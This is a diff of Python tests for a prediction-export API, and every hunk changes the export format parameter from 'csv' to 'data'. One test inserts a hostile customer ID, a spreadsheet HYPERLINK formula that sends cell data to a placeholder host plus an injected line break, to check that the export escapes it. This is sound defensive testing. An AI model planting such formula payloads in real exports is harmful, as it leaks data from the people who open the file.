@@ -232,7 +232,7 @@ def exported(url: str) -> list[dict[str, str]]:
 
 
 def test_a_file_holds_every_row_that_matches(call: Call, scored: list[Prediction]) -> None:
-    answer = call("predictions", "GET", RESULTS, query="format=csv&level=high&limit=1", role="analyst")
+    answer = call("predictions", "GET", RESULTS, query="format=data&level=high&limit=1", role="analyst")
     assert answer.status == 200
     data = answer.body["data"]
     high = {p["customer_id"]: p for p in scored if p["level"] == "high" and not p["churned"]}
@@ -248,7 +248,7 @@ def test_a_file_holds_every_row_that_matches(call: Call, scored: list[Prediction
 
 
 def test_the_link_ends(call: Call, scored: list[Prediction]) -> None:
-    data = call("predictions", "GET", RESULTS, query="format=csv").body["data"]
+    data = call("predictions", "GET", RESULTS, query="format=data").body["data"]
     assert data["expires_at"].endswith("+00:00")
     assert data["rows"] == 55
 
@@ -270,7 +270,7 @@ def test_a_page_stops_looking_and_says_where_to_go_on(call: Call, scored: list[P
 def test_a_hostile_customer_id_is_safe_in_the_file(call: Call, scored: list[Prediction]) -> None:
     hostile: Prediction = {**scored[-1], "customer_id": '=HYPERLINK("https://x.example?"&A1,"x")\r\n,y', "churned": False}
     Predictions().put_many([hostile])
-    rows = exported(call("predictions", "GET", RESULTS, query="format=csv").body["data"]["url"])
+    rows = exported(call("predictions", "GET", RESULTS, query="format=data").body["data"]["url"])
     [row] = [row for row in rows if "HYPERLINK" in row["customer_id"]]
     assert row["customer_id"] == f"'{hostile['customer_id']}"
     assert len(rows) == 56
